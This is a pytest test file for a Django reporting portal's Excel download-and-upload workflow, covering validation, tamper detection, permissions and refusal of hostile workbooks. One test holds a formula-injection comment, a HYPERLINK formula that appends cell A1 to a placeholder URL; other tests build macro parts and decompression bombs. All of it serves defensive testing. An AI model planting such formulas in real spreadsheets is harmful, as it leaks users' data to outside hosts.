"""The Excel round trip: download a protected form, fill it offline, upload it all-or-nothing."""

import io
import zipfile
from decimal import Decimal

import openpyxl
from openpyxl.cell.cell import MergedCell
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from collection import excel, selectors, services
from collection.models import DataElement, DataSet, DataValue, DataValueChange, Status
from core.models import Period, Role


@pytest.fixture
def form(province, h1):
    # 2021-H1 expired long ago; these tests are about entry, so this form never expires.
    ds = DataSet.objects.get(code="CCHC-DV")
    ds.expiry_days = None
    ds.save()
    return services.get_submission(ds, province["VITHANH"], h1)


def el(code):
    return DataElement.objects.get(code=code)


def load(data, **kwargs):
    return openpyxl.load_workbook(io.BytesIO(data), **kwargs)


def cells_of(data):
    """{(element_code, option_code, kind): cell coordinate} from the workbook's `_meta`."""
    loaded = excel.load_workbook_file(data)
    return {(s.element_code, s.option_code, s.kind): s.cell for s in loaded.slots}


def fill(data, values, comments=None):
    """The downloaded workbook with `values` {element_code: value} typed in, as bytes."""
    where = cells_of(data)
    wb = load(data)
    ws = wb[excel.FORM_SHEET]
    for code, value in values.items():
        ws[where[(code, None, excel.VALUE)]].value = value
    for code, text in (comments or {}).items():
        ws[where[(code, None, excel.COMMENT)]].value = text
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def upload(data, name="bieu-mau.xlsx"):
    """What a view gets from request.FILES."""
    return SimpleUploadedFile(name, data, content_type=excel.CONTENT_TYPE)


GOOD = {"HS_TIEP_NHAN": 1234, "HS_DA_GIAI_QUYET": "1.200", "HS_DUNG_HAN": 1190, "HS_TRE_HAN": 10,
        "HS_TRUC_TUYEN": 300, "VB_KY_SO_TY_LE": 97.5}


# --------------------------------------------------------------------------- the required test


def test_three_bad_cells_save_nothing_and_feedback_marks_exactly_them_then_clean_upload_saves(form, officer):
    downloaded = excel.build_workbook(form)
    where = cells_of(downloaded)
    bad = {"HS_TIEP_NHAN": "abc", "HS_TRE_HAN": -3, "HS_XIN_LOI": "1.5"}
    filled = fill(downloaded, {**GOOD, **bad})

    with pytest.raises(excel.InvalidUpload) as err:
        excel.read_upload(upload(filled), form, officer)

    # Nothing saved.
    assert not DataValue.objects.exists() and not DataValueChange.objects.exists()
    form.refresh_from_db()
    assert form.version == 0
    # The errors name exactly the three cells, with reasons.
    assert set(err.value.errors) == {(el(c).pk, None) for c in bad}
    assert {c.cell for c in err.value.cells} == {where[(c, None, excel.VALUE)] for c in bad}
    reasons = {c.element_code: c.reason for c in err.value.cells}
    assert "không được âm" in reasons["HS_TRE_HAN"] and "dấu phẩy" in reasons["HS_XIN_LOI"]

    # The feedback file marks exactly those three cells: red fill and a comment; no other cell.
    feedback = load(err.value.feedback)
    ws = feedback[excel.FORM_SHEET]
    marked = {c.coordinate for row in ws.iter_rows() for c in row if c.fill == excel.ERROR_FILL}
    commented = {c.coordinate for row in ws.iter_rows() for c in row if c.comment is not None}
    expected = {where[(c, None, excel.VALUE)] for c in bad}
    assert marked == expected and commented == expected
    assert "không được âm" in ws[where[("HS_TRE_HAN", None, excel.VALUE)]].comment.text
    errors = feedback[excel.ERROR_SHEET]
    rows = list(errors.iter_rows(min_row=2, values_only=True))
    assert {r[0] for r in rows} == expected
    assert {r[1] for r in rows} == {el(c).name for c in bad}
    assert {r[2] for r in rows} == {"abc", -3, "1.5"}  # as typed: text stays text, numbers numbers
    assert feedback[excel.META_SHEET].sheet_state == "veryHidden"

    # The feedback file, corrected, uploads cleanly; changes are recorded with source "excel".
    corrected = fill(err.value.feedback, {"HS_TIEP_NHAN": 1234, "HS_TRE_HAN": 10, "HS_XIN_LOI": 2})
    result = excel.read_upload(upload(corrected), form, officer)
    assert result.changed == 7 and result.version == 1
    values = {v.element.code: v.numeric_value for v in form.values.select_related("element")}
    assert values == {"HS_TIEP_NHAN": 1234, "HS_DA_GIAI_QUYET": 1200, "HS_DUNG_HAN": 1190, "HS_TRE_HAN": 10,
                      "HS_TRUC_TUYEN": 300, "VB_KY_SO_TY_LE": Decimal("97.5"), "HS_XIN_LOI": 2}
    changes = DataValueChange.objects.filter(submission=form)
    assert changes.count() == 7 and set(changes.values_list("source", flat=True)) == {"excel"}
    assert {str(c) for c in result.changes} >= {"Tổng số hồ sơ tiếp nhận: (trống) → 1.234"}
    assert all(c.user == officer for c in changes)


def test_download_prefills_numbers_and_reupload_unchanged_is_a_no_op(form, officer):
    services.save_values(form, officer, {(el("HS_TIEP_NHAN"), None): {"value": "1.234", "comment": "Theo phần mềm một cửa"},
                                         (el("VB_KY_SO_TY_LE"), None): {"value": "97,5"}}, expected_version=0)
    form.refresh_from_db()
    data = excel.build_workbook(form)
    where = cells_of(data)
    ws = load(data)[excel.FORM_SHEET]
    tiep_nhan = ws[where[("HS_TIEP_NHAN", None, excel.VALUE)]]
    assert tiep_nhan.value == 1234 and tiep_nhan.data_type == "n" and tiep_nhan.number_format == "#,##0"
    ty_le = ws[where[("VB_KY_SO_TY_LE", None, excel.VALUE)]]
    assert ty_le.value == 97.5 and ty_le.data_type == "n" and "#,##0" in ty_le.number_format
    assert ws[where[("HS_TIEP_NHAN", None, excel.COMMENT)]].value == "Theo phần mềm một cửa"
    assert ws["A1"].value == form.data_set.name.upper()
    texts = [c.value for row in ws.iter_rows(max_row=8) for c in row if isinstance(c.value, str)]
    assert form.unit.name in texts and any("6 tháng đầu năm 2021" in t for t in texts)

    result = excel.read_upload(upload(data), form, officer)
    assert result.changed == 0 and result.version == 1
    assert DataValueChange.objects.count() == 2


def test_empty_cell_clears_value_and_stale_file_overwrites_with_notice(form, officer):
    data = excel.build_workbook(form)  # version 0
    services.save_values(form, officer, {(el("HS_TIEP_NHAN"), None): {"value": "50"}}, expected_version=0)
    result = excel.read_upload(upload(fill(data, {"HS_TRE_HAN": 4})), form, officer)
    assert result.version == 2
    assert {c.element_code for c in result.changes} == {"HS_TIEP_NHAN", "HS_TRE_HAN"}
    assert any("phiên bản 0 → 1" in w for w in result.warnings)
    assert not form.values.filter(element__code="HS_TIEP_NHAN").exists()


def test_disaggregated_rows_map_each_option(province, h1, make_user, in_2021):
    ds = DataSet.objects.get(code="CQDP")
    ds.expiry_days = None
    ds.save()
    form = services.get_submission(ds, province["VITHANH"], h1)
    officer = make_user("VITHANH", Role.OFFICER)
    data = excel.build_workbook(form)
    where = cells_of(data)
    assert ("DB_TRUNG_CU", "huyen", excel.VALUE) in where and ("DB_TRUNG_CU", None, excel.VALUE) not in where
    wb = load(data)
    ws = wb[excel.FORM_SHEET]
    ws[where[("DB_TRUNG_CU", "huyen", excel.VALUE)]] = 30
    ws[where[("DB_TRUNG_CU", "xa", excel.VALUE)]] = "225"
    ws[where[("DB_TRUNG_CU", "quoc-hoi", excel.COMMENT)]] = "Khóa XV"
    ws[where[("CU_TRI", None, excel.VALUE)]] = 59811
    out = io.BytesIO()
    wb.save(out)
    result = excel.read_upload(upload(out.getvalue()), form, officer)
    assert result.changed == 4
    stored = {(v.element.code, v.option.code if v.option else None): (v.numeric_value, v.comment)
              for v in form.values.select_related("element", "option")}
    assert stored == {("DB_TRUNG_CU", "huyen"): (30, ""), ("DB_TRUNG_CU", "xa"): (225, ""),
                      ("DB_TRUNG_CU", "quoc-hoi"): (None, "Khóa XV"), ("CU_TRI", None): (59811, "")}


def test_formula_without_computed_value_is_an_error_not_an_empty_cell(form, officer):
    data = fill(excel.build_workbook(form), {"HS_TIEP_NHAN": "=100+20"})
    with pytest.raises(excel.InvalidUpload) as err:
        excel.read_upload(upload(data), form, officer)
    assert list(err.value.errors) == [(el("HS_TIEP_NHAN").pk, None)]
    assert "công thức" in err.value.cells[0].reason
    assert not DataValue.objects.exists()
    feedback = load(err.value.feedback)
    shown = feedback[excel.ERROR_SHEET]["C2"]
    assert shown.value == "'=100+20" and shown.data_type == "s"  # listed as text, never re-evaluated


# --------------------------------------------------------------------------- refusals


def test_wrong_data_set_unit_or_period_is_refused_naming_both(form, officer, province, h1):
    other_ds = DataSet.objects.get(code="VTLT-DV")
    other_ds.expiry_days = None
    other_ds.save()
    h2 = Period.objects.get(code="2021-H2")
    cases = [
        (services.get_submission(other_ds, province["VITHANH"], h1), "biểu mẫu khác", "văn thư, lưu trữ"),
        (services.get_submission(form.data_set, province["NGABAY"], h1), "đơn vị khác", "Thành phố Ngã Bảy"),
        (services.get_submission(form.data_set, province["VITHANH"], h2), "kỳ báo cáo khác", "6 tháng cuối năm 2021"),
    ]
    for other, what, named in cases:
        data = excel.build_workbook(other)
        with pytest.raises(excel.UploadRejected) as err:
            excel.read_upload(upload(data), form, officer)
        message = err.value.message
        assert what in message and named in message and "trang này là" in message
        assert form.data_set.name in message and "Thành phố Vị Thanh" in message
    assert not DataValue.objects.exists()


@pytest.mark.parametrize("payload, name", [
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "bieu-mau.xlsx"),  # an old .xls renamed
    ("STT;Chỉ tiêu;Giá trị\n1;HS;12\n".encode(), "bieu-mau.xlsx"),  # a CSV renamed
    (b"%PDF-1.7\n" + b"x" * 100, "bieu-mau.xlsx"),  # a PDF renamed
    (b"PK\x03\x04 not really a zip", "bieu-mau.xlsx"),
])
def test_non_excel_bytes_are_refused(form, officer, payload, name):
    with pytest.raises(excel.UploadRejected, match=r"Tệp không phải Excel \(\.xlsx\)"):
        excel.read_upload(upload(payload, name), form, officer)


def test_a_docx_renamed_is_not_excel(form, officer):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(excel.UploadRejected, match="không phải Excel"):
        excel.read_upload(upload(buf.getvalue()), form, officer)


def _with_part(data, name, content, content_types=None):
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = src.read(info)
            if content_types and info.filename == "[Content_Types].xml":
                body = content_types(body)
            z.writestr(info, body)
        if name:
            z.writestr(name, content)
    return out.getvalue()


def test_macro_files_are_refused(form, officer):
    data = excel.build_workbook(form)
    with pytest.raises(excel.UploadRejected, match="macro"):
        excel.read_upload(upload(data, "bieu-mau.xlsm"), form, officer)
    with pytest.raises(excel.UploadRejected, match="macro"):
        excel.read_upload(upload(_with_part(data, "xl/vbaProject.bin", b"\x00" * 64)), form, officer)
    macro_type = _with_part(data, None, None, content_types=lambda b: b.replace(
        b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml"))
    with pytest.raises(excel.UploadRejected, match="macro"):
        excel.read_upload(upload(macro_type), form, officer)


def test_oversized_file_is_refused_before_reading_it_all(form, officer):
    class Huge(io.BytesIO):
        size = 6 * 1024 * 1024
        name = "bieu-mau.xlsx"

        def read(self, *args):  # pragma: no cover - must not be reached
            raise AssertionError("read an oversized upload")

    with pytest.raises(excel.UploadRejected, match="giới hạn 5 MB"):
        excel.read_upload(Huge(), form, officer)
    # A stream without a size is read no further than the limit.
    with pytest.raises(excel.UploadRejected, match="giới hạn 0,1 MB"):
        excel.read_upload(io.BytesIO(b"PK\x03\x04" + b"\x00" * 200_000), form, officer, max_bytes=100 * 1024)
    with pytest.raises(excel.UploadRejected, match="giới hạn 5 MB"):
        excel.read_upload(b"PK\x03\x04" + b"\x00" * (5 * 1024 * 1024), form, officer)


def _edit_meta(data, edit):
    wb = load(data)
    edit(wb[excel.META_SHEET])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_missing_or_tampered_meta_is_refused(form, officer, province, h1):
    data = excel.build_workbook(form)
    other = excel.build_workbook(services.get_submission(form.data_set, province["NGABAY"], h1))

    def retarget(ws):  # claim the NGABAY file is for VITHANH, keeping NGABAY's signature
        for row in ws.iter_rows():
            if row[0].value == "unit":
                row[1].value = "VITHANH"

    def move_cell(ws):  # point a code at another cell
        for row in ws.iter_rows():
            if row[0].value == "HS_TIEP_NHAN" and row[2].value == "value":
                row[4].value = "Z99"

    def drop_signature(ws):
        for row in ws.iter_rows():
            if row[0].value == "signature":
                row[1].value = None

    for tampered in (_edit_meta(other, retarget), _edit_meta(data, move_cell), _edit_meta(data, drop_signature)):
        with pytest.raises(excel.UploadRejected, match="Tệp không phải biểu mẫu tải từ Cổng"):
            excel.read_upload(upload(tampered), form, officer)

    plain = openpyxl.Workbook()
    out = io.BytesIO()
    plain.save(out)
    with pytest.raises(excel.UploadRejected, match="Tệp không phải biểu mẫu tải từ Cổng"):
        excel.read_upload(upload(out.getvalue()), form, officer)
    assert not DataValue.objects.exists()


def test_signature_depends_on_the_secret_key(form, settings):
    data = excel.build_workbook(form)
    settings.SECRET_KEY = "another-secret-key-for-another-portal-0123456789"
    with pytest.raises(excel.UploadRejected, match="bị sửa"):
        excel.load_workbook_file(data)


def test_officer_of_another_unit_is_refused(form, make_user):
    stranger = make_user("NGABAY", Role.OFFICER)
    data = fill(excel.build_workbook(form), GOOD)
    with pytest.raises(services.PermissionDenied):
        excel.read_upload(upload(data), form, stranger)
    assert not DataValue.objects.exists()


def test_leader_who_cannot_enter_data_is_refused(form, make_user):
    leader = make_user("SNV", Role.LEADER)
    with pytest.raises(services.PermissionDenied):
        excel.read_upload(upload(excel.build_workbook(form)), form, leader)


def test_locked_form_is_refused_and_its_workbook_is_read_only(form, officer, cchc_staff):
    services.save_values(form, officer, {(el(k), None): {"value": v} for k, v in
                                         dict(HS_TIEP_NHAN="100", HS_DA_GIAI_QUYET="90", HS_DUNG_HAN="85",
                                              HS_TRE_HAN="5").items()}, expected_version=0)
    services.submit(form, officer)
    services.approve(form, cchc_staff)
    form.refresh_from_db()
    assert form.status == Status.APPROVED
    data = excel.build_workbook(form)
    ws = load(data)[excel.FORM_SHEET]
    assert all(c.protection.locked for row in ws.iter_rows() for c in row)
    assert not ws.data_validations.dataValidation
    with pytest.raises(services.Locked):
        excel.read_upload(upload(fill(data, {"HS_TIEP_NHAN": 120})), form, officer)


# --------------------------------------------------------------------------- formula escaping


def test_safe_text_escapes_formula_starts_and_is_undone_on_upload():
    for text in ("=1+1", "+84 912", "-3", "@SUM(A1)", "\tx", "\rx", "'=x"):
        assert excel.safe_text(text) == "'" + text
        assert excel.unescape_text(excel.safe_text(text)) == text
    assert excel.safe_text("Bình thường") == "Bình thường"
    assert excel.safe_text("a\x00b\x07c") == "abc"
    assert excel.unescape_text("'abc") == "'abc"


def test_comments_and_names_that_look_like_formulas_come_out_as_literal_text(form, officer):
    unit = form.unit
    unit.name = "@Thành phố Vị Thanh"
    unit.save()
    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
    services.save_values(form, officer, {(el("HS_TIEP_NHAN"), None): {"value": "5", "comment": hostile}}, expected_version=0)
    form.refresh_from_db()
    data = excel.build_workbook(form)
    where = cells_of(data)
    ws = load(data)[excel.FORM_SHEET]
    note = ws[where[("HS_TIEP_NHAN", None, excel.COMMENT)]]
    assert note.data_type == "s" and note.value == "'" + hostile
    name_cells = [c for row in ws.iter_rows(max_row=8) for c in row if c.value == "'@Thành phố Vị Thanh"]
    assert name_cells and all(c.data_type == "s" for c in name_cells)
    # No cell anywhere in the workbook is a formula.
    wb = load(data)
    assert not [c for s in wb.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
    # The raw XML holds no <f> element either: nothing Excel would evaluate.
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert not [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]

    # Uploading the file back keeps the comment exactly (the quote is undone): no change.
    result = excel.read_upload(upload(data), form, officer)
    assert result.changed == 0
    assert form.values.get(element__code="HS_TIEP_NHAN").comment == hostile


# --------------------------------------------------------------------------- protection


def test_sheet_is_protected_only_inputs_unlocked_with_validation(form):
    data = excel.build_workbook(form)
    wb = load(data)
    ws = wb[excel.FORM_SHEET]
    assert ws.protection.sheet and ws.protection.password
    assert wb.security.lockStructure
    assert wb[excel.META_SHEET].sheet_state == "veryHidden" and wb[excel.META_SHEET].protection.sheet
    where = cells_of(data)
    inputs = set(where.values())
    # The rest of a merged note cell (a form mixing one-column and by-level sections) follows its first cell.
    unlocked = {c.coordinate for row in ws.iter_rows() for c in row
                if not c.protection.locked and not isinstance(c, MergedCell)}
    assert unlocked == inputs
    layout = selectors.form_layout(form.data_set)  # a value per element × option, a note per element
    cells, rows = sum(len(r.cells) for s in layout for r in s.rows), sum(len(s.rows) for s in layout)
    assert len([k for k in where if k[2] == excel.VALUE]) == cells and len([k for k in where if k[2] == excel.COMMENT]) == rows
    # Label cells are locked.
    name_cell = ws.cell(row=ws[where[("HS_TIEP_NHAN", None, excel.VALUE)]].row, column=2)
    assert name_cell.value == "Tổng số hồ sơ tiếp nhận" and name_cell.protection.locked
    assert ws["A1"].protection.locked

    validations = ws.data_validations.dataValidation
    covered = {}
    for dv in validations:
        for rng in dv.sqref.ranges:
            for row in ws[rng.coord] if ":" in rng.coord else [[ws[rng.coord]]]:
                for c in row:
                    covered[c.coordinate] = dv
    assert set(covered) == {cell for (_code, _opt, kind), cell in where.items() if kind == excel.VALUE}
    values = {code: cell for (code, opt, kind), cell in where.items() if kind == excel.VALUE and opt is None}
    whole = covered[values["HS_TIEP_NHAN"]]
    assert whole.type == "whole" and whole.formula1 == "0" and whole.showErrorMessage and "số nguyên" in whole.error
    percent = covered[values["VB_KY_SO_TY_LE"]]
    assert percent.type == "decimal" and (percent.formula1, percent.formula2) == ("0", "100") and "0 đến 100" in percent.error


def test_decimal_elements_get_decimal_validation(province, h1):
    ds = DataSet.objects.get(code="VTLT-DV")
    ds.expiry_days = None
    ds.save()
    form = services.get_submission(ds, province["VITHANH"], h1)
    data = excel.build_workbook(form)
    ws = load(data)[excel.FORM_SHEET]
    assert ws[cells_of(data)[("LT_NOP_LUU_MET", None, excel.VALUE)]].number_format == excel.DECIMAL_FORMAT
    kinds = {dv.type for dv in ws.data_validations.dataValidation}
    assert kinds == {"decimal", "whole"}


# --------------------------------------------------------------------------- hostile files (issue 10, item 1)


def _patch_sheet(data, old, new):
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = src.read(info)
            z.writestr(info, body.replace(old, new) if info.filename.startswith("xl/worksheets/") else body)
    return out.getvalue()


def test_numbers_of_1e22_or_infinity_answer_so_qua_lon(form, officer):
    # Before: Decimal(repr(1e22)) could not be rounded to 6 places and the upload was an HTTP 500.
    data = fill(excel.build_workbook(form), {"HS_TIEP_NHAN": 1e22, "HS_TRE_HAN": 7777, "HS_DUNG_HAN": 8888})
    data = _patch_sheet(data, b"<v>7777</v>", b"<v>inf</v>")  # openpyxl cannot write infinity itself
    data = _patch_sheet(data, b"<v>8888</v>", b"<v>1e999999999</v>")
    with pytest.raises(excel.InvalidUpload) as err:
        excel.read_upload(upload(data), form, officer)
    reasons = {c.element_code: c.reason for c in err.value.cells}
    assert set(reasons) == {"HS_TIEP_NHAN", "HS_TRE_HAN", "HS_DUNG_HAN"}
    assert all(r.startswith("Số quá lớn") for r in reasons.values())
    assert not DataValue.objects.exists()
    load(err.value.feedback)  # the feedback workbook is still written


def test_meta_is_verified_before_the_form_sheet_and_each_sheet_is_parsed_once(form, officer, monkeypatch):
    from core.imports import sheets

    parsed = []
    real = sheets.read_cells
    monkeypatch.setattr(sheets, "read_cells", lambda package, path, label, **kw: parsed.append(label) or real(
        package, path, label, **kw))

    def no_openpyxl(*args, **kwargs):
        raise AssertionError("the upload opened the workbook with openpyxl")

    data = fill(excel.build_workbook(form), GOOD)
    tampered = _edit_meta(data, lambda ws: setattr(ws["B3"], "value", "CQDP"))
    monkeypatch.setattr(openpyxl, "load_workbook", no_openpyxl)
    parsed.clear()
    with pytest.raises(excel.UploadRejected, match="Tệp không phải biểu mẫu tải từ Cổng"):
        excel.read_upload(upload(tampered), form, officer)
    assert parsed == [excel.META_SHEET]  # refused without parsing the form sheet
    parsed.clear()
    result = excel.read_upload(upload(data), form, officer)
    assert result.changed == len(GOOD) and parsed == [excel.META_SHEET, excel.FORM_SHEET]


def test_a_part_inflating_past_the_form_bound_is_refused(form, officer):
    # A form's parts are small: 3 MB of one part is refused (the zip's declared size is not trusted).
    data = _with_part(excel.build_workbook(form), "customXml/item9.xml", b" " * (3 * 1024 * 1024))
    with pytest.raises(excel.UploadRejected, match="Tệp giải nén quá lớn"):
        excel.read_upload(upload(data), form, officer)


@pytest.mark.parametrize("make", ["far_cell", "rows_without_r", "deflate_bomb", "huge_shared_strings", "duplicated_r"])
def test_hostile_workbooks_are_refused_with_a_reason(form, officer, make):
    from tests.core import hostile

    with pytest.raises(excel.UploadRejected) as err:
        excel.read_upload(upload(getattr(hostile, make)()), form, officer)
    assert err.value.message and "Traceback" not in err.value.message
